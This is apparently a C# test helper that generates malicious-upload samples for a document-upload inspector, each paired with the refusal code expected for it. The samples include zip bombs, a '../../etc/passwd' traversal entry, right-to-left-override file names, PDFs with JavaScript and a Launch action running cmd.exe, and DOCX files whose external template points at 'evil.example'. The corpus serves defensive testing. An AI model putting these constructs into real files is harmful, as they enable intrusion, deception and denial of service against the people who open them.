using System.IO.Compression;
using System.Text;

namespace DossierFlow.Tests.Shared.Uploads;

/// <summary>One file of the corpus: the name it is uploaded under, its bytes, and the refusal code (null: accepted).</summary>
internal sealed record UploadSample(string FileName, byte[] Content, string? RefusedAs)
{
    public override string ToString() => $"{FileName} → {RefusedAs ?? "accepted"}";
}

/// <summary>
/// The upload corpus (issue 12 items 6 and 10): every kind of file the application refuses, each with the code of
/// its Vietnamese reason, and files it accepts. Built by code at test time (no binaries in the repository). The
/// inspector's unit tests and the web test that uploads each one over HTTP read the same list.
/// </summary>
internal static class UploadCorpus
{
    /// <param name="maxBytes">The size limit of the inspector under test, so the oversized sample is just over it.</param>
    public static IReadOnlyList<UploadSample> All(int maxBytes) => [.. Refused(maxBytes), .. Accepted()];

    public static IEnumerable<UploadSample> Refused(int maxBytes)
    {
        // Executables, unknown and legacy formats, archives, broken and empty files.
        yield return new("to-trinh.pdf", [0x4D, 0x5A, 0x90, 0x00], "upload-executable");
        yield return new("bao-cao.docx", "\u007FELF\u0002"u8.ToArray(), "upload-executable");
        yield return new("ghi-chu.pdf", "chỉ là văn bản"u8.ToArray(), "upload-type");
        yield return new("cu.doc", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1], "upload-legacy-office");
        yield return new("macro.docx", Zip(("[Content_Types].xml", "<Types><Default ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>"u8.ToArray()),
            ("word/document.xml", "<w:document/>"u8.ToArray()), ("word/vbaProject.bin", [1, 2, 3])), "upload-macro");
        yield return new("tai-lieu.zip", Zip(("a.txt", "xin chào"u8.ToArray())), "upload-archive");
        yield return new("bom.docx", Zip(("[Content_Types].xml", "<Types/>"u8.ToArray()), ("word/document.xml", new byte[50 * 1024 * 1024])), "upload-archive-bomb");
        yield return new("leo.docx", Zip(("../../etc/passwd", "x"u8.ToArray())), "upload-archive-path");
        yield return new("hong.docx", [0x50, 0x4B, 0x03, 0x04, 1, 2, 3, 4, 5], "upload-malformed");
        yield return new("../../to-trinh.pdf", "%PDF-1.7"u8.ToArray(), "upload-name");
        yield return new("C:\\to-trinh.pdf", "%PDF-1.7"u8.ToArray(), "upload-name");
        yield return new("lon.pdf", [.. "%PDF-1.7"u8.ToArray(), .. new byte[maxBytes + 1024 * 1024]], "upload-too-large");
        yield return new("rong.pdf", [], "upload-empty");

        // A PDF's bytes under a name that a browser or Windows would run or render, or another type's name.
        foreach (var name in new[] { "report.exe", "chay.bat", "ung-dung.hta", "trang.html", "ho-so", "ho-so.pdf.", "anh.png" })
            yield return new(name, Pdf, "upload-extension");
        yield return new("to-trinh.pdf", Docx(), "upload-extension");
        yield return new("anh.jpg", [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0], "upload-extension");

        // Names that display as something else: right-to-left override ("hosotab.pdf" is really a .bat), marks, isolates, invisible and control characters.
        foreach (var name in new[] { "hoso\u202Efdp.bat", "hoso\u202Etab.pdf", "ho\u200Eso.pdf", "ho\u200Fso.pdf", "ho\u2066so\u2069.pdf", "ho\u200Bso.pdf", "ho\u0085so.pdf" })
            yield return new(name, Pdf, "upload-name");

        // PDF active content, plain and with #xx-escaped names.
        yield return new("mo.pdf", "%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction 2 0 R >> endobj\n2 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj"u8.ToArray(), "upload-pdf-active");
        yield return new("js.pdf", "%PDF-1.7\n2 0 obj<</S/J#61vaScript/J#53(x)>>endobj"u8.ToArray(), "upload-pdf-active");
        yield return new("chay.pdf", "%PDF-1.7\n2 0 obj<</S/Launch/F(cmd.exe)>>endobj"u8.ToArray(), "upload-pdf-active");
        yield return new("kem.pdf", "%PDF-1.7\n1 0 obj<</Names<</EmbeddedFiles 3 0 R>>>>endobj"u8.ToArray(), "upload-pdf-active");
        yield return new("kem1.pdf", "%PDF-1.7\n3 0 obj<</Type/#45mbeddedFile>>endobj"u8.ToArray(), "upload-pdf-active");
        yield return new("media.pdf", "%PDF-1.7\n3 0 obj<</Subtype/RichMedia>>endobj"u8.ToArray(), "upload-pdf-active");
        yield return new("aa.pdf", "%PDF-1.7\n3 0 obj<</AA<</O 4 0 R>>>>endobj"u8.ToArray(), "upload-pdf-active");

        // DOCX: external template, frames, objects and file links; macros under other names.
        yield return new("mau.docx", Docx(Relationships("word/_rels/settings.xml.rels",
            $"<Relationship Id=\"rId1\" Type=\"{Rel}attachedTemplate\" Target=\"http://evil.example/mau.dotm\" TargetMode=\"External\"/>")), "upload-docx-external");
        yield return new("khung.docx", Docx(Relationships("word/_rels/webSettings.xml.rels",
            $"<Relationship Id=\"rId1\" Type=\"{Rel}frame\" Target=\"file://share/x.docx\" TargetMode=\"External\"/>")), "upload-docx-external");
        yield return new("ole.docx", Docx(Relationships("word/_rels/document.xml.rels",
            $"<Relationship Id=\"rId1\" Type=\"{Rel}oleObject\" Target=\"\\\\share\\x.xls\" TargetMode=\"External\"/>")), "upload-docx-external");
        yield return new("lien-ket.docx", Docx(Relationships("word/_rels/document.xml.rels",
            $"<Relationship Id=\"rId1\" Type=\"{Rel}hyperlink\" Target=\"file:///C:/Windows/System32/calc.exe\" TargetMode=\"External\"/>")), "upload-docx-external");
        yield return new("an.docx", Docx(("word/anh1.png", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0])), "upload-macro");
        yield return new("an2.docx", Docx(Relationships("word/_rels/document.xml.rels",
            "<Relationship Id=\"rId9\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"data.dat\"/>"), ("word/data.dat", [1, 2, 3])), "upload-macro");
        yield return new("an3.docx", Zip(("[Content_Types].xml", Encoding.UTF8.GetBytes(PlainTypes.Replace("</Types>",
            "<Override PartName=\"/word/khac.dat\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>"))), ("word/document.xml", "<w:document/>"u8.ToArray()), ("word/khac.dat", [1, 2, 3])), "upload-macro");

        // Archives that lie about sizes or nest another archive (zip, 7z, rar, gzip; one stored uncompressed that would expand to 64 MB).
        yield return new("doi.docx", WithDeclaredSize(Docx(("word/media/a.xml", new byte[40_000])), "word/media/a.xml", 10), "upload-archive-lying");
        yield return new("long.docx", Docx(("word/media/image1.png", Zip(("a.txt", "x"u8.ToArray())))), "upload-archive-nested");
        yield return new("long7z.docx", Docx(("word/media/image2.png", [0x37, 0x7A, 0xBC, 0xAF, 0x27, 0x1C, 0, 4])), "upload-archive-nested");
        yield return new("longrar.docx", Docx(("word/media/image3.png", [0x52, 0x61, 0x72, 0x21, 0x1A, 0x07, 0x01, 0])), "upload-archive-nested");
        yield return new("longgz.docx", Docx(("word/media/image4.png", [0x1F, 0x8B, 0x08, 0, 0, 0, 0, 0])), "upload-archive-nested");
        yield return new("long-lon.docx", NestedStored(Zip(("zeros.bin", new byte[64 * 1024 * 1024]))), "upload-archive-nested");
    }

    public static IEnumerable<UploadSample> Accepted()
    {
        yield return new("Tờ trình ký số.pdf", "%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF"u8.ToArray(), null);
        // Names that merely contain the tokens' letters are not the tokens.
        yield return new("Hồ sơ khen thưởng.PDF", "%PDF-1.7\n<</Type/JSON/AAA 1/Title(JavaScript)>>"u8.ToArray(), null);
        yield return new("anh.png", [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0], null);
        yield return new("anh.JPEG", [0xFF, 0xD8, 0xFF, 0xE0], null);
        // Web and mail links are ordinary in a report.
        yield return new("lien-ket-web.docx", Docx(Relationships("word/_rels/document.xml.rels",
            $"<Relationship Id=\"rId1\" Type=\"{Rel}hyperlink\" Target=\"https://thuvienphapluat.vn/\" TargetMode=\"External\"/>"
            + $"<Relationship Id=\"rId2\" Type=\"{Rel}hyperlink\" Target=\"mailto:vanthu@example.vn\" TargetMode=\"External\"/>")), null);
    }

    /// <summary>Writes the corpus as a folder: one sub-folder per sample, named for its expected outcome, holding the bytes and the upload name.</summary>
    public static string WriteTo(string folder, int maxBytes)
    {
        var index = 0;
        foreach (var sample in All(maxBytes))
        {
            var case_ = Directory.CreateDirectory(Path.Combine(folder, $"{++index:D3}-{sample.RefusedAs ?? "accepted"}"));
            File.WriteAllBytes(Path.Combine(case_.FullName, "content"), sample.Content);
            File.WriteAllText(Path.Combine(case_.FullName, "name"), sample.FileName, new UTF8Encoding(false));
        }
        return folder;
    }

    /// <summary>Reads a corpus folder back (WriteTo's layout), so a sample added to the folder is tested too.</summary>
    public static IEnumerable<UploadSample> ReadFrom(string folder) =>
        Directory.GetDirectories(folder).Order(StringComparer.Ordinal).Select(d =>
        {
            var outcome = Path.GetFileName(d)[4..];
            return new UploadSample(File.ReadAllText(Path.Combine(d, "name"), Encoding.UTF8), File.ReadAllBytes(Path.Combine(d, "content")),
                outcome == "accepted" ? null : outcome);
        });

    private const string Rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    private const string PlainTypes = "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
        + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
        + "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
        + "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";

    private static readonly byte[] Pdf = "%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF"u8.ToArray();

    public static byte[] Zip(params (string Name, byte[] Content)[] entries)
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
            foreach (var (name, content) in entries)
                using (var entry = zip.CreateEntry(name, CompressionLevel.SmallestSize).Open()) entry.Write(content);
        return stream.ToArray();
    }

    /// <summary>A minimal DOCX package (content types and a document part) with extra parts.</summary>
    public static byte[] Docx(params (string Name, byte[] Content)[] extra) =>
        Zip([("[Content_Types].xml", Encoding.UTF8.GetBytes(PlainTypes)), ("word/document.xml", "<w:document/>"u8.ToArray()), .. extra]);

    private static (string, byte[]) Relationships(string part, string relationship) =>
        (part, Encoding.UTF8.GetBytes("<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">" + relationship + "</Relationships>"));

    /// <summary>A DOCX holding an archive stored without compression, so the outer entry's own ratio is 1.</summary>
    private static byte[] NestedStored(byte[] inner)
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, bytes, level) in new[] { ("[Content_Types].xml", Encoding.UTF8.GetBytes(PlainTypes), CompressionLevel.Optimal),
                         ("word/document.xml", "<w:document/>"u8.ToArray(), CompressionLevel.Optimal), ("word/embeddings/data.bin", inner, CompressionLevel.NoCompression) })
                using (var entry = zip.CreateEntry(name, level).Open()) entry.Write(bytes);
        }
        return stream.ToArray();
    }

    /// <summary>Rewrites the uncompressed size every header declares for one entry, as a hand-made archive can.</summary>
    public static byte[] WithDeclaredSize(byte[] zip, string entryName, uint declared)
    {
        var name = Encoding.UTF8.GetBytes(entryName);
        for (var i = 0; i + 46 < zip.Length; i++)
        {
            var local = zip[i] == 0x50 && zip[i + 1] == 0x4B && zip[i + 2] == 3 && zip[i + 3] == 4;
            var central = zip[i] == 0x50 && zip[i + 1] == 0x4B && zip[i + 2] == 1 && zip[i + 3] == 2;
            if (!local && !central) continue;
            var nameAt = local ? i + 30 : i + 46;
            if (nameAt + name.Length > zip.Length || !zip.AsSpan(nameAt, name.Length).SequenceEqual(name)) continue;
            BitConverter.TryWriteBytes(zip.AsSpan(local ? i + 22 : i + 24, 4), declared);
        }
        return zip;
    }
}
